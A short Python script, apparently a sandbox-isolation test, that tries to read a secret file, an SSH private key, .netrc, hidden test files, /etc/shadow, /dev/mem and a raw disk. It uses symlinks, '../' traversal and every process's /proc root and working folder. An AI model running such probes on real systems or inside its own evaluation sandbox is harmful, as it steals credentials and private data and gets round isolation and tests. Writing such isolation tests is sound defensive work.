# Reads the secret file, dotfiles of a home folder and the hidden tests: by name, through links, through every
# process's root, working folder and descriptors, and by walking upwards.

import os

from attack import attempt, done, look, read, target

names = [
    target("SECRET"),
    target("HOME") + "/.ssh/id_rsa",
    target("HOME") + "/.netrc",
    target("TESTS"),
    target("SHARED"),
]
for name in names:
    look(name, lambda: read(name))
    os.symlink(name, "link")
    look("a link to it", lambda: read("link"))
    os.unlink("link")
    look("upwards", lambda: read("../" * 30 + name.lstrip("/")))
    for pid in [entry for entry in os.listdir("/proc") if entry.isdecimal()] + ["self", "thread-self", target("PID")]:
        for way in ("root", "cwd"):
            look(f"/proc/{pid}/{way}", lambda: read(f"/proc/{pid}/{way}/{name}"))
            look(f"/proc/{pid}/{way}/..", lambda: read(f"/proc/{pid}/{way}/" + "../" * 20 + name.lstrip("/")))
attempt("list the tests", lambda: os.listdir(os.path.dirname(target("TESTS"))))
attempt("list the home folder", lambda: os.listdir(target("HOME")))
attempt("read /etc/shadow", lambda: open("/etc/shadow").read(1))
attempt("read the raw memory", lambda: open("/dev/mem", "rb").read(1))
attempt("read a disk", lambda: open("/dev/vda", "rb").read(1))
done()
